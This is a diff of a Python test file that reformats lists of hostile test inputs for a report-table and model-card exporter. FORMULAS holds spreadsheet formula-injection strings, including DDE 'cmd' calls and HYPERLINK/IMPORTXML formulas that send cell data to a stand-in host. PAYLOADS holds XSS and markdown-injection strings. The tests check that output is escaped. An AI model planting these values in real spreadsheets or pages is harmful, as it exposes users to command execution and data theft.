@@ -23,24 +23,9 @@ from numerate.lab.report.tables import DataTable, to_csv
 from numerate.lab.training.config import RunConfig
 from numerate.lab.training.model_card import model_card
 
-FORMULAS = [
-    "=cmd|' /C calc'!A0",
-    "=1+1",
-    "+1+cmd()",
-    "-1+1",
-    "-2+3+cmd|' /C calc'!D2",
-    "@SUM(1+1)*cmd()",
-    '=HYPERLINK("http://x.example/?"&A1,"here")',
-    '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "＝1+1",
-    "-A1",
-    "+49 call me",
-    "-1e5+cmd()",
-    "=5",
-]
+FORMULAS = ["=cmd|' /C calc'!A0", "=1+1", "+1+cmd()", "-1+1", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd()"]
+FORMULAS += ['=HYPERLINK("http://x.example/?"&A1,"here")', '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")', "\t=1+1"]
+FORMULAS += ["\r=1+1", "\n=1+1", "＝1+1", "-A1", "+49 call me", "-1e5+cmd()", "=5"]
 NUMBERS = ["-3.5", "+3.5", "-3,5", "-1,234.50", "-1.234,50", "-1 234", "-1'234", "-$5", "-5 €", "-5 %", "+.5", "-1e-5", "-1E+300"]
 NUMBERS += ["-inf", "-Infinity", "-nan", "-0", "12", "1e5", "\t5", "-" + "9" * 400]
 CROSS_ENTROPY = ["", "-", "+", "=", "@", "--", "a=b", "a", "3-5", "2024-11-16", " =1", "'=1", "x@y.z", "−5"]
@@ -101,19 +86,9 @@ def test_tables_of_reports_and_rivals(tmp_path: Path):
     assert cells_of((tmp_path / "rivals.csv").read_text())[1] == ["'=1+1", "-3.5"]
 
 
-PAYLOADS = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "[here](javascript:alert(1))",
-    "![x](http://x.example/a.png)",
-    "a`<script>alert(1)</script>`",
-    "``` \n# heading\n<b>",
-    "`````",
-    "a|b",
-    "a\n\n# heading\n\n- list",
-    "---\nlicense: evil\n---",
-    "*bold* &lt;",
-]
+PAYLOADS = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[here](javascript:alert(1))"]
+PAYLOADS += ["![x](http://x.example/a.png)", "a`<script>alert(1)</script>`", "``` \n# heading\n<b>", "`````", "a|b"]
+PAYLOADS += ["a\n\n# heading\n\n- list", "---\nlicense: evil\n---", "*bold* &lt;"]
 
 
 @pytest.mark.parametrize("text", PAYLOADS)
